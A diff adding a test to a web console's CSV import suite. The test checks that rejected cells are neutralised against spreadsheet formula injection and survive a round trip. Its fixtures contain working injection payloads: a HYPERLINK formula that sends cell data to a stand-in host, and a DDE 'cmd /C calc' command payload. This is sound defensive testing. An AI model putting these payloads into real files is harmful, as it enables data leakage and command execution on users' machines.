@@ -112,6 +112,39 @@ describe("the imports area of the console", () => {
     expect(detail).toMatchObject({ status: "finished", rows: 3, created: 0, rejected: 3 });
   });
 
+  // Finding 5 (issue 13): a rejected cell starting with = + - @ ran as a formula when rejected.csv
+  // was opened in Excel. Phones start with + and negative numbers with -, so the importer reads
+  // the neutralising ' back: fixing and re-uploading the file changes no value.
+  it("writes rejected cells that a spreadsheet would run neutralised, and reads them back as they were", async () => {
+    world();
+    const officer = await session("department", "so-vhttdl");
+    const dangerous = `${HEADER}
+tour-guide-card,"=HYPERLINK(""http://x.example/?""&A1)",Cá nhân,Lê Văn Hùng,,+84 12345,,2027-01-01,,@SUM(1+1)
+tour-guide-card,-2+3+cmd|' /C calc'!A0,Ông,Trần Thị Mai,,+84 912 345 678,,2027-01-01,,"	=1+1"
+tour-guide-card,HDV-3,Cá nhân,=1+1,,0912345678,,-1,,'=quote
+`;
+    const first = await uploadAndFinish(officer, "nguy-hiem.csv", dangerous);
+    const download = await (await consoleRequest(w, `/staff/imports/${first}/rejected.csv`, { cookie: officer.cookie })).text();
+    const cells = download.split("\r\n").slice(1, -1).flatMap((l) => l.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/));
+    // No cell of the file starts with a character a spreadsheet reads as the start of a formula.
+    expect(cells.filter((c) => /^"?[=+\-@\t\r]/.test(c))).toEqual([]);
+    expect(download).toContain("'=HYPERLINK(");
+    expect(download).toContain("'+84 912 345 678");
+    // A leading ' in the upload is the spreadsheet user's own "keep this as text" mark: read as such.
+    expect(download).toContain(",'=quote,");
+
+    const again = await uploadAndFinish(officer, "nguy-hiem-sua.csv", download);
+    const problems = async (id: string) => {
+      const detail = (await (await w.call("GET", `/api/staff/imports/${id}`, { token: officer.token })).json()) as { report: { column: string; reason: string; values: Record<string, string> }[] };
+      return detail.report.map(({ column, reason, values }) => ({ column, reason, values }));
+    };
+    // The same rejections, for the same values as first uploaded.
+    const before = await problems(first);
+    expect(await problems(again)).toEqual(before);
+    expect(before.map((p) => p.values.document_no)).toContain("-2+3+cmd|' /C calc'!A0");
+    expect(before.find((p) => p.values.document_no === "HDV-3")?.values.address).toBe("=quote");
+  });
+
   it("serves the same file on the staff API, in English headers on request", async () => {
     world();
     const officer = await session("department", "so-vhttdl");
